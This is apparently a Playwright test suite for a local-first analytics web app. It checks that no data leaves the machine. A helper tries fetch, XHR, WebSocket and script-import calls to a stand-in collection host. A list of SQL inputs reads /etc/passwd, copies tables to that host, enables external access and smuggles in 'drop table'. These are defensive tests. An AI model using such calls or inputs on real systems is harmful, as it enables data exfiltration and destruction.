import type { Page, Worker } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  downloadBy,
  goTo,
  openSample,
  pickFromMenu,
  rejectionOf,
  waitUntilReady,
} from '../support/browser-actions.ts';
import { openPage } from '../support/page.ts';
import type { TestPage } from '../support/page.ts';

const elsewhere = 'https://elsewhere.example/collect';

/** Tries every way out that a script has; names those that worked. */
const tryToLeave = async (address: string): Promise<readonly string[]> => {
  const attempts: Record<string, () => unknown> = {
    fetch: () => fetch(address, { method: 'POST', body: 'rows', mode: 'no-cors' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${address}?xhr`, false);
      request.send();
    },
    socket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(address.replace('https', 'wss'));
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
    script: () => import(/* @vite-ignore */ `${address}/script.js`),
  };
  const worked: string[] = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      worked.push(name);
    } catch {
      // Refused, as it should be.
    }
  }
  return worked;
};

const engineWorker = (page: Page): Worker => {
  const worker = page.workers()[0];
  if (!worker) throw new Error('The engine has no worker');
  return worker;
};

describe('nothing leaves the machine', () => {
  let site: TestPage;
  let page: Page;
  beforeAll(async () => {
    site = await openPage('', { permissions: ['clipboard-read', 'clipboard-write'] });
    page = site.page;
    await waitUntilReady(page);
    await openSample(page, 'supplier');
  });
  afterAll(() => site.close());

  it('while every page is computed', async () => {
    for (const path of [
      '/home',
      '/data',
      '/data/dictionary',
      '/portfolio',
      '/profit',
      '/rfm',
      '/value',
      '/equity',
      '/channel-results',
      '/references',
      '/service',
      '/loyalty',
      '/treatment',
      '/drivers',
      '/segments',
      '/journey',
      '/retention',
      '/claims',
      '/contracts',
      '/occasions',
      '/swot',
      '/opportunities',
      '/chain',
      '/plan',
    ])
      await goTo(page, path);
    expect(await site.foreignRequests()).toEqual([]);
  });

  it('while charts, pages, links and the workspace are taken away', async () => {
    await goTo(page, '/rfm');
    const figure = 'What to do with this figure';
    for (const line of ['Download PNG', 'Download SVG', 'Download CSV'])
      await downloadBy(page, () => pickFromMenu(page, figure, line));
    await downloadBy(page, () => pickFromMenu(page, 'Take away', /^Save this page as one HTML file/));
    await downloadBy(page, () => pickFromMenu(page, 'Workspace and settings', /^Save to a file/));
    await pickFromMenu(page, 'Take away', /^Copy a link to this view/);
    await page.getByText(/^Link copied/).waitFor();
    expect(await site.foreignRequests()).toEqual([]);
  });

  it('the light says so, and the ledger lists what the page fetched from its own address', async () => {
    await page.getByRole('link', { name: /^0 bytes sent/ }).click();
    await page.getByRole('heading', { name: 'Nothing has left this machine' }).waitFor();
    await page.getByText('No attempt to reach another address was made.').waitFor();
    await page.getByText('All requests', { exact: true }).click();
    const addresses = await page.locator('main table tbody tr td:first-child').allInnerTexts();
    expect(addresses.length).toBeGreaterThan(5);
    for (const address of addresses)
      expect(address.startsWith(new URL(site.address).origin), address).toBe(true);
  });

  it('SQL can’t read from or write to another address, or leave its own files', async () => {
    const failed = 'sql-failed';
    const refused = 'sql-not-read-only';
    for (const [sql, kind] of [
      [`select * from read_csv('${elsewhere}.csv')`, failed],
      [`select * from '${elsewhere}.csv'`, failed],
      [`select * from read_text('/etc/passwd')`, failed],
      [`copy orders to '${elsewhere}'`, refused],
      [`attach '${elsewhere}' as other`, refused],
      ['install httpfs', refused],
      [`set enable_external_access = true`, refused],
      ['select 1; drop table orders', refused],
      [`with gone as (select 1) insert into orders (order_id) select 'x' from gone`, refused],
    ] as const) {
      const rejection = await rejectionOf(page, 'sql', sql);
      expect(rejection?.facts.kind, sql).toBe(kind);
    }
    expect(await site.foreignRequests()).toEqual([]);
  });

  it('the engine’s worker is under the page’s policy: every way out is shut', async () => {
    expect(await engineWorker(page).evaluate(tryToLeave, elsewhere)).toEqual([]);
    expect(await seenOutside(site)).toEqual([]);
  });

  it('so is the page, and the ledger counts the attempts that its policy stopped', async () => {
    expect(await page.evaluate(tryToLeave, elsewhere)).toEqual([]);
    const picture = await page.evaluate(
      (address) =>
        new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve('loaded');
          image.onerror = () => resolve('refused');
          image.src = `${address}.png`;
        }),
      elsewhere,
    );
    expect(picture).toBe('refused');
    expect(await seenOutside(site)).toEqual([]);
    await page.getByText(/\d attempts to reach another address were stopped/).waitFor();
    await page.getByRole('link', { name: /^0 bytes sent/ }).waitFor();
  });

  it('the service worker hands out every program with the same policy', async () => {
    const policy = await page.evaluate(async () => {
      await navigator.serviceWorker.ready;
      const script = document.querySelector<HTMLScriptElement>('script[src]')?.src ?? '';
      return (await fetch(script)).headers.get('content-security-policy');
    });
    expect(policy).toMatch(/default-src 'none'.*connect-src 'self'/);
  });
});

/** What reached the wire: a request that the policy stops never does, though the page reports that it was asked for. */
const seenOutside = async (site: TestPage): Promise<readonly string[]> =>
  (await site.foreignRequests()).filter((request) => !request.startsWith('http'));
